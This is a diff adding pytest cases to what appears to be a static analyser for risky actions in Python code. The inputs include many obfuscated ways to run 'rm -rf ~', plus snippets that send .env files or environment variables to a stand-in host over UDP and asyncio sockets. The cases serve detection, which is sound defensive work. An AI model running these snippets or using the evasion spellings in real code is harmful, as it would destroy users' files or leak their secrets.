@@ -68,6 +68,25 @@ def test_home_deleted_however_spelled(code):
     assert deletes and not deletes[0].dynamic, py(code)
 
 
+@pytest.mark.parametrize("code", [
+    "__builtins__.__dict__['exec']('import os; os.system(\"rm -rf ~\")')",
+    "globals()['__builtins__'].exec('import os; os.system(\"rm -rf ~\")')",
+    "import os; list(map(os.system, ['rm -rf ~']))",
+    "import os; os.system(*['rm -rf ~'])",
+    "import subprocess; subprocess.run(**{'args': 'rm -rf ~', 'shell': True})",
+    "import os; os.system(''.join(map(chr, [114, 109, 32, 45, 114, 102, 32, 126])))",
+    "import os; os.system(bytes([114, 109, 32, 45, 114, 102, 32, 126]).decode())",
+    "import os; d = {'f': os.system}; d['f']('rm -rf ~')",
+    "import os; vars(os)['system']('rm -rf ~')",
+    "import sys, os; sys.modules['os'].system('rm -rf ~')",
+    "import os; (c := 'rm -rf ~') and os.system(c)",
+    "import os; type('X', (), {'__del__': lambda s: os.system('rm -rf ~')})()",
+    "try:\n    import subprocess as s\nexcept ImportError:\n    s = None\ns.run('rm -rf ~', shell=True)",
+])
+def test_system_reached_however_spelled(code):
+    assert find(py(code), "file_delete", path="/home/u"), py(code)
+
+
 def test_comprehension_over_literal_dirs_deletes_each():
     acts = py("import shutil; [shutil.rmtree(d) for d in ('htmlcov', '.tox')]")
     assert [a.target.path for a in acts if a.kind == "file_delete"] == [f"{PROJECT}/htmlcov", f"{PROJECT}/.tox"]
@@ -181,6 +200,9 @@ def test_secret_read_taints_what_is_sent():
     "import os, http.client; c = http.client.HTTPSConnection('x.example'); c.request('POST', '/', body=str(dict(os.environ)))",
     "import os, requests; requests.get('https://x.example', params={'t': os.environ['GITHUB_TOKEN']})",
     "import socket; socket.gethostbyname(open('.env').read() + '.x.example')",
+    "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(open('.env', 'rb').read(), ('x.example', 53))",
+    "import asyncio, os\nasync def m():\n    r, w = await asyncio.open_connection('x.example', 9000)\n"
+    "    w.write(str(os.environ).encode())\nasyncio.run(m())",
 ])
 def test_environment_and_secrets_sent(code):
     assert any(a.net.sends_secret for a in find(py(code), "network")), py(code)
@@ -239,6 +261,24 @@ def test_ordinary_code_is_not_dynamic(code):
     acts = py(code)
     assert not any(a.dynamic for a in acts), acts
     assert not any(a.target.is_secret or a.net.sends_secret for a in acts), acts
+
+
+def test_a_helper_nothing_here_calls_is_not_judged_by_its_parameters():
+    acts = py("import subprocess, shutil\ndef run(cmd):\n    subprocess.run(cmd, shell=True)\n"
+              "def clean(path):\n    shutil.rmtree(path)\nclass Tool:\n    def go(self):\n"
+              "        subprocess.run(self.command, shell=True)\n")
+    assert not any(a.dynamic for a in acts), acts
+
+
+def test_calls_past_the_inlining_budget_are_not_lost():
+    calls = "".join(f"run('echo {i}')\n" for i in range(40))
+    acts = py("import os\ndef run(cmd):\n    os.system(cmd)\n" + calls + "run('rm -rf ~')\n")
+    assert dynamic_exec(acts)  # the calls not inlined leave the command unknown, never unseen
+
+
+def test_decorator_of_the_module_calls_the_function():
+    acts = py("import os\ndef deco(fn):\n    fn('rm -rf ~')\n    return fn\n@deco\ndef f(c):\n    os.system(c)\n")
+    assert find(acts, "file_delete", path="/home/u")
 
 
 def test_functions_nothing_calls_are_still_read():
